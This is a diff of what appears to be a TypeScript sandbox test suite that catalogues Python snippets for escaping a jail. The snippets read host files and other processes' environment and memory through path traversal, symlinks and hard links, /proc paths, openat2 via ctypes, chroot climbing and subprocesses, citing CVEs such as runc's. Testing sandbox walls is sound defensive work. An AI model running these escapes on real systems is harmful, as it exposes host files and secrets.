@@ -1,186 +1,179 @@
+/** Files of the host, by every route that has led out of some sandbox. */
+import { onWalls } from './attack.ts';
 import type { Attack } from './attack.ts';
+import { INTERPRETERS } from './jailbreak.ts';
 
-const MANUAL = 'the manual of Python’s library';
-const PROC = 'proc(5)';
-const OPEN = 'open(2), openat(2)';
+const FILE = { kind: 'secret', in: 'file' } as const;
+const PYTHON = { kernel: 'python' } as const;
+/** So that it is not the missing folder that stops a program. */
+const PROC = { proc: true } as const;
 
-/** Statements that print what is in CANARY: how, where it is known from, and whether it is Linux's alone. */
-const READING: readonly (readonly [how: string, known: string, code: string])[] = [
-  ['by its path', MANUAL, 'print(open(CANARY).read())'],
-  ['by a descriptor', OPEN, 'import os; print(os.read(os.open(CANARY, os.O_RDONLY), 99))'],
-  ['by pathlib', MANUAL, 'import pathlib; print(pathlib.Path(CANARY).read_text())'],
-  ['by io.open_code', MANUAL, 'import io; print(io.open_code(CANARY).read())'],
-  ['by codecs', MANUAL, 'import codecs; print(codecs.open(CANARY).read())'],
-  ['by tokenize', MANUAL, 'import tokenize; print(tokenize.open(CANARY).read())'],
-  ['by linecache', MANUAL, 'import linecache; print(linecache.getlines(CANARY))'],
-  ['by fileinput', MANUAL, 'import fileinput; print(*fileinput.input([CANARY]))'],
-  [
-    'by a loader of source code',
-    MANUAL,
-    'from importlib.machinery import SourceFileLoader as L; print(L("x", CANARY).get_data(CANARY))',
-  ],
-  [
-    'by the error of a program that it is not',
-    'write-ups of Python jails',
-    'import runpy, traceback\ntry: runpy.run_path(CANARY)\nexcept BaseException: traceback.print_exc()',
-  ],
-  [
-    'by a module with its name',
-    MANUAL,
-    'import os, sys, shutil; shutil.copy(CANARY, "stolen"); print(open("stolen").read())',
-  ],
-  [
-    'by the printer of the site module',
-    'write-ups of Python jails',
-    'import _sitebuiltins as s; s._Printer("x", "", [os_name(CANARY)], [folder(CANARY)])()',
-  ],
-  [
-    'by a map of its memory',
-    'mmap(2)',
-    'import mmap; f = open(CANARY); print(mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)[:])',
-  ],
-  [
-    'by sendfile',
-    'sendfile(2)',
-    'import os; out = os.open("out", os.O_CREAT | os.O_RDWR); os.sendfile(out, os.open(CANARY, 0), 0, 99); print(open("out").read())',
-  ],
-  [
-    'by a symbolic link',
-    'symlink(7)',
-    'import os; os.symlink(CANARY, "link"); print(open("link").read())',
-  ],
-  [
-    'by a link to the root',
-    'symlink(7)',
-    'import os; os.symlink("/", "root"); print(open("root" + CANARY).read())',
-  ],
-  ['by many steps up', OPEN, 'print(open("../" * 40 + CANARY).read())'],
-  [
-    'by a folder that is open',
-    OPEN,
-    'import os; print(os.read(os.open(CANARY[1:], os.O_RDONLY, dir_fd=os.open("/", os.O_RDONLY)), 99))',
-  ],
-  [
-    'by an archive that follows a link',
-    'CVE-2007-4559',
-    'import io, os, tarfile\nb = io.BytesIO(); t = tarfile.open(fileobj=b, mode="w"); t.add(CANARY, "x"); t.close(); b.seek(0)\nprint(tarfile.open(fileobj=b).extractfile("x").read())',
-  ],
-  [
-    'by the reader of mailboxes',
-    MANUAL,
-    'import mailbox; print(mailbox.mbox(CANARY)._file.read())',
-  ],
-  [
-    'by the error of a configuration',
-    MANUAL,
-    'import configparser; configparser.ConfigParser().read_file(open(CANARY))',
-  ],
-  ['by a process’s root', PROC, 'print(open("/proc/self/root" + CANARY).read())'],
-  [
-    'by a process’s current folder',
-    PROC,
-    'import os; os.chdir(folder(CANARY)); print(open("/proc/self/cwd/" + os_name(CANARY)).read())',
-  ],
-  [
-    'by reopening a descriptor of the path alone',
-    PROC,
-    'import os; print(open(f"/proc/self/fd/{os.open(CANARY, os.O_PATH)}").read())',
-  ],
-  [
-    'by asyncio in a thread',
-    MANUAL,
-    'import asyncio\nprint(asyncio.run(asyncio.to_thread(open, CANARY)).read())',
-  ],
-  [
-    'by a program',
-    'write-ups of Python jails',
-    'import subprocess; print(subprocess.check_output(["cat", CANARY]))',
-  ],
-  ['by a shell', 'write-ups of Python jails', 'import os; print(os.popen(f"cat {CANARY}").read())'],
-  [
-    'by the C library',
-    'write-ups of Python jails',
-    'import ctypes; c = ctypes.CDLL(None); c.fopen.restype = ctypes.c_void_p; b = ctypes.create_string_buffer(99); c.fread(b, 1, 98, ctypes.c_void_p(c.fopen(CANARY.encode(), b"r"))); print(b.value)',
-  ],
-  [
-    'by a program that a pseudo-terminal is given to',
-    'write-ups of Python jails',
-    'import pty; pty.spawn(["cat", CANARY])',
-  ],
-  [
-    'by another interpreter',
-    MANUAL,
-    'import subprocess, sys; print(subprocess.check_output([sys.executable, "-c", f"print(open({CANARY!r}).read())"]))',
-  ],
-];
-
-/** The same for files that appear at MARK. */
-const WRITING: readonly (readonly [how: string, known: string, code: string])[] = [
-  ['by its path', MANUAL, 'open(MARK, "w").write("x")'],
-  ['by a descriptor', OPEN, 'import os; os.close(os.open(MARK, os.O_CREAT | os.O_WRONLY))'],
-  ['as a folder', 'mkdir(2)', 'import os; os.mkdir(MARK)'],
-  ['as a link that stands for a file', 'symlink(7)', 'import os; os.symlink(CANARY, MARK)'],
-  ['as another name of a file', 'link(2)', 'import os; os.link(CANARY, MARK)'],
-  ['as a named pipe', 'fifo(7)', 'import os; os.mkfifo(MARK)'],
-  ['as a socket', 'unix(7)', 'import socket; socket.socket(socket.AF_UNIX).bind(MARK)'],
-  [
-    'by moving a file there',
-    'rename(2)',
-    'import shutil; open("f", "w").close(); shutil.move("f", MARK)',
-  ],
-  ['as a database', MANUAL, 'import sqlite3; sqlite3.connect(MARK).execute("create table t (a)")'],
-  [
-    'as an attached database',
-    'sqlite.org, ATTACH',
-    'import sqlite3; c = sqlite3.connect(":memory:"); c.execute("attach ? as m", (MARK,)); c.execute("create table m.t (a)")',
-  ],
-  [
-    'from an archive with a path in it',
-    'CVE-2007-4559',
-    'import io, tarfile\nb = io.BytesIO(); t = tarfile.open(fileobj=b, mode="w"); t.addfile(tarfile.TarInfo(MARK)); t.close(); b.seek(0)\nt = tarfile.open(fileobj=b); t.extract(t.getmembers()[0], "/", filter="fully_trusted") if hasattr(tarfile, "fully_trusted_filter") else t.extractall("/")',
-  ],
-  [
-    'as compiled code',
-    MANUAL,
-    'import py_compile; open("m.py", "w").close(); py_compile.compile("m.py", cfile=MARK)',
-  ],
-  ['as a log', MANUAL, 'import logging; logging.basicConfig(filename=MARK); logging.error("x")'],
-  ['as a packed file', MANUAL, 'import gzip; gzip.open(MARK, "w").write(b"x")'],
-  [
-    'as a trace',
-    MANUAL,
-    'import cProfile; p = cProfile.Profile(); p.enable(); p.disable(); p.dump_stats(MARK)',
-  ],
-  ['by a program', 'write-ups of Python jails', 'import os; os.system(f"touch {MARK}")'],
-  [
-    'by the C library',
-    'write-ups of Python jails',
-    'import ctypes; ctypes.CDLL(None).creat(MARK.encode(), 0o600)',
-  ],
-  ['at exit', MANUAL, 'import atexit; atexit.register(lambda: open(MARK, "w"))'],
-  [
-    'by a thread',
-    MANUAL,
-    'import threading; t = threading.Thread(target=open, args=(MARK, "w")); t.start(); t.join()',
-  ],
-];
-
-const HELPERS = `
-def folder(path): return path.rpartition("/")[0]
-def os_name(path): return path.rpartition("/")[2]
-`;
-
-export const FILE_ATTACKS: readonly Attack[] = [
-  ...READING.map(([how, known, code]): Attack => ({
-    title: `a file of the host is read ${how}`,
-    known,
-    goal: 'secret',
-    code: HELPERS + code,
-  })),
-  ...WRITING.map(([how, known, code]): Attack => ({
-    title: `a file of the host is made ${how}`,
-    known,
-    goal: 'mark',
-    code: HELPERS + code,
-  })),
+export const FILES: readonly Attack[] = [
+  ...onWalls(INTERPRETERS, {
+    title: 'an absolute path is opened',
+    known: 'the first line of every PyJail write-up',
+    oracle: FILE,
+    code: 'open(secret_path).read()',
+  }),
+  ...onWalls(INTERPRETERS, {
+    title: 'dots lead from the current folder up to the root and down again',
+    known: 'path traversal, CWE-22',
+    oracle: FILE,
+    code: 'open("../" * 40 + secret_path.lstrip("/")).read()',
+  }),
+  ...onWalls(INTERPRETERS, {
+    title: 'a symbolic link of its own leads to a file of the host',
+    known: 'symlink(7); CVE-2018-15664 and the like in containers',
+    oracle: FILE,
+    code: `
+import tempfile
+link = tempfile.mkdtemp() + "/link"
+os.symlink(secret_path, link)
+open(link).read()`,
+  }),
+  ...onWalls(INTERPRETERS, {
+    title: 'a descriptor of the root is the start of a relative path',
+    known: 'openat(2); CVE-2024-21626, a leaked descriptor of a folder in runc',
+    oracle: FILE,
+    code: `
+root = os.open("/", os.O_RDONLY)
+os.read(os.open(secret_path.lstrip("/"), os.O_RDONLY, dir_fd=root), 1000)`,
+  }),
+  ...onWalls(INTERPRETERS, {
+    title: 'a file is copied into a folder that may be read',
+    known: 'shutil and friends, in PyJail write-ups',
+    oracle: FILE,
+    code: `
+import shutil, tempfile
+open(shutil.copy(secret_path, tempfile.mkdtemp())).read()`,
+  }),
+  ...onWalls(INTERPRETERS, {
+    title: 'io.open_code reads what is no code',
+    known: 'PEP 578: open_code, which guards of open forget',
+    oracle: FILE,
+    code: `
+import io
+io.open_code(secret_path).read()`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the C library opens the file in place of Python',
+    known: 'PyJail write-ups: ctypes.CDLL(None)',
+    oracle: FILE,
+    code: `
+libc.fopen.restype = ctypes.c_void_p
+line = ctypes.create_string_buffer(200)
+libc.fgets(line, 200, ctypes.c_void_p(libc.fopen(secret_path.encode(), b"r")))
+line.value`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'a hard link brings the file into a folder of its own',
+    known: 'link(2); the attack that fs.protected_hardlinks is for',
+    oracle: FILE,
+    code: `
+name = os.path.dirname(secret_path) + "/link" if os.access(secret_path, os.R_OK) else "/tmp/link"
+os.link(secret_path, name)
+open(name).read()`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the root of any process is a way to the file',
+    known: '/proc/PID/root, proc_pid_root(5)',
+    policy: PROC,
+    oracle: FILE,
+    code: `
+for name in filter(str.isdigit, os.listdir("/proc")):
+    outcome(lambda: print(open(f"/proc/{name}/root{secret_path}").read()))`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the current folder of any process is a way to the file',
+    known: '/proc/PID/cwd; CVE-2024-21626',
+    policy: PROC,
+    oracle: FILE,
+    code: `
+for name in filter(str.isdigit, os.listdir("/proc")):
+    outcome(lambda: print(open(f"/proc/{name}/cwd/" + "../" * 40 + secret_path[1:]).read()))`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'a descriptor that only names the file is opened again by /proc/self/fd',
+    known: 'O_PATH, open(2); CVE-2019-5736 opens /proc/self/exe like that',
+    policy: PROC,
+    oracle: FILE,
+    code: `
+named = os.open(secret_path, os.O_PATH)
+open(f"/proc/self/fd/{named}").read()`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'openat2 resolves the path in the root that it is told',
+    known: 'openat2(2): RESOLVE_IN_ROOT',
+    oracle: FILE,
+    code: `
+import struct
+how = ctypes.create_string_buffer(struct.pack("QQQ", os.O_RDONLY, 0, 0x10))
+root = os.open("/", os.O_PATH)
+opened = libc.syscall(ctypes.c_long(437), root, secret_path.encode(), how, ctypes.c_long(24))
+os.read(opened, 1000)`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'a child reads the file in place of its parent',
+    known: 'os.system and subprocess, in PyJail write-ups',
+    policy: { extends: 'subprocess' },
+    oracle: FILE,
+    code: `
+import subprocess, sys
+subprocess.run([sys.executable, "-c", "import sys; print(open(sys.argv[1]).read())", secret_path], capture_output=True).stdout`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'a working folder outside of the root is climbed up from',
+    known: 'chroot(2): the dots of a process whose folder is outside',
+    oracle: FILE,
+    code: `
+for descriptor in range(3, 100):
+    outcome(lambda: os.fchdir(descriptor))
+for _ in range(50):
+    os.chdir("..")
+open(secret_path[1:]).read()`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the environment of another process is read',
+    known: '/proc/PID/environ, proc_pid_environ(5)',
+    policy: PROC,
+    oracle: { kind: 'secret', in: 'victim' },
+    code: `
+for name in filter(str.isdigit, os.listdir("/proc")):
+    outcome(lambda: print(open(f"/proc/{name}/environ", "rb").read()) if name == str(victim) else None)`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the memory of another process is read as a file',
+    known: '/proc/PID/mem, proc_pid_mem(5)',
+    policy: PROC,
+    oracle: { kind: 'secret', in: 'victim' },
+    code: `
+memory = open(f"/proc/{victim}/mem", "rb", buffering=0)
+memory.seek(address)
+memory.read(64)`,
+  }),
+  ...onWalls(PYTHON, {
+    title: "the environment that the interpreter was started with is the host's",
+    known: 'secrets in the environment of containers',
+    policy: PROC,
+    oracle: { kind: 'secret', in: 'environment' },
+    code: `
+print(dict(os.environ))
+for name in ("self", "thread-self", os.getppid()):
+    outcome(lambda: print(open(f"/proc/{name}/environ", "rb").read()))`,
+  }),
+  ...onWalls(PYTHON, {
+    title: 'the memory of its own process still holds the environment of the host',
+    known: 'secrets that a fork without exec leaves in memory, fork(2)',
+    policy: PROC,
+    oracle: { kind: 'secret', in: 'environment' },
+    code: `
+import re
+memory = open("/proc/self/mem", "rb", buffering=0)
+wanted = re.compile(secret_name.encode() + b"=[0-9a-f]{32}")
+for line in open("/proc/self/maps"):
+    first, last = (int(part, 16) for part in line.split()[0].split("-"))
+    if last < 1 << 62 and last - first < 1 << 28:
+        memory.seek(first)
+        outcome(lambda: print(wanted.findall(memory.read(last - first))))`,
+  }),
 ];
